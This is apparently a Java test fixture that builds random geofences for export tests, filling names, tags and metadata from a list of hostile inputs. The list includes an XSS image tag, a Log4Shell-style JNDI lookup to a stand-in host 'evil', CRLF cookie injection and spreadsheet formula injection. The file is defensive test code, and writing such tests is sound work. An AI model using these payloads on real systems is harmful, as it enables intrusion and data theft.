package io.spatialflow.server.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import io.spatialflow.geocoder.geo.Point;
import io.spatialflow.server.account.TimeOrderedUuid;
import io.spatialflow.server.account.WorkspaceId;
import io.spatialflow.server.geofence.Area;
import io.spatialflow.server.geofence.CircleArea;
import io.spatialflow.server.geofence.Drawing;
import io.spatialflow.server.geofence.Geofence;
import io.spatialflow.server.geofence.GeofenceId;
import io.spatialflow.server.geofence.Group;
import io.spatialflow.server.geofence.Origin;
import io.spatialflow.server.geofence.Position;
import io.spatialflow.server.geofence.Profile;
import io.spatialflow.server.geofence.Status;
import io.spatialflow.server.geofence.Tag;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;

/** Fences of all kinds, with all that people should not call them. */
final class HostileFences {

    private static final Instant NOW = Instant.parse("2026-11-23T12:00:00Z");

    /** What XML can't write is not among these. */
    private static final List<String> TEXTS = List.of(
            "Depot",
            "<img src=x onerror=alert(1)>",
            "]]></name></script><![CDATA[",
            "${jndi:ldap://evil/x}",
            "%0d%0aSet-Cookie: a=b",
            "two\nlines\r\nand\rmore",
            "=HYPERLINK(\"http://evil\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\tTab",
            " spaces around ",
            "quotes \" ' & &amp; &#x41;",
            "\u202eright to left",
            "Straße 😀 日本",
            "a,b;c\td",
            "{\"a\":1}",
            "null",
            "0");

    private final Random random;

    HostileFences(long seed) {
        this.random = new Random(seed);
    }

    Geofence next() {
        Area area = area();
        boolean geocoded = area instanceof CircleArea && random.nextBoolean();
        Origin origin = geocoded
                ? Origin.geocoded(text())
                : new Origin(random.nextBoolean() ? Origin.Source.DRAW : Origin.Source.BUILDING, maybe(text()));
        Profile profile = new Profile(text(), maybe(text()), tags(), metadata());
        String group = maybe(text().strip());
        return Geofence.made(
                        new GeofenceId(TimeOrderedUuid.next(NOW)),
                        new WorkspaceId(new UUID(1, 1)),
                        profile,
                        area,
                        origin,
                        NOW)
                .in(group == null ? null : new Group(new UUID(2, 2), group))
                .with(new Status(random.nextInt(4) > 0, random.nextInt(4) == 0));
    }

    String text() {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    private @Nullable String maybe(String text) {
        return random.nextBoolean() ? text : null;
    }

    private List<Tag> tags() {
        return IntStream.range(0, random.nextInt(4))
                .mapToObj(i -> new Tag(
                        List.of("-x", "a:b", "Größe", "v1.2/3", "two words").get(random.nextInt(5)) + i))
                .toList();
    }

    private Map<String, @Nullable Object> metadata() {
        Map<String, @Nullable Object> metadata = new TreeMap<>();
        for (int i = random.nextInt(5); i > 0; i--) {
            metadata.put(random.nextBoolean() ? "name" : text() + i, value(2));
        }
        return metadata;
    }

    private @Nullable Object value(int depth) {
        return switch (random.nextInt(depth > 0 ? 7 : 5)) {
            case 0 -> null;
            case 1 -> text();
            case 2 -> random.nextInt();
            case 3 -> random.nextDouble() * 1e9;
            case 4 -> random.nextBoolean();
            case 5 -> {
                List<@Nullable Object> list = new ArrayList<>();
                list.add(value(depth - 1));
                yield list;
            }
            default -> {
                Map<String, @Nullable Object> map = new TreeMap<>();
                map.put(text(), value(depth - 1));
                yield map;
            }
        };
    }

    private Area area() {
        double longitude = random.nextDouble() * 340 - 170;
        double latitude = random.nextDouble() * 120 - 60;
        return switch (random.nextInt(4)) {
            case 0 -> CircleArea.of(new Point(latitude, longitude), 1 + random.nextInt(10_000));
            case 1 -> CircleArea.of(new Point(latitude, longitude), random.nextDouble() * 100_000);
            case 2 -> polygons(List.of(List.of(ring(longitude, latitude, 2), ring(longitude, latitude, 0.5))));
            default ->
                polygons(List.of(
                        List.of(ring(179.5, latitude, 2)),
                        List.of(ring(longitude < 0 ? longitude + 20 : longitude - 20, latitude, 1))));
        };
    }

    private static Area polygons(List<List<List<Position>>> polygons) {
        Drawing.Outcome outcome = new Drawing(polygons).check();
        assertThat(outcome).isInstanceOf(Drawing.Outcome.Sound.class);
        return ((Drawing.Outcome.Sound) outcome).area();
    }

    private List<Position> ring(double longitude, double latitude, double radius) {
        int vertices = 4 + random.nextInt(20);
        List<Position> ring = new ArrayList<>();
        for (int i = 0; i < vertices; i++) {
            double angle = 2 * Math.PI * i / vertices;
            double east = longitude + radius * Math.cos(angle);
            ring.add(new Position(east > 180 ? east - 360 : east, latitude + radius * Math.sin(angle)));
        }
        return ring;
    }
}
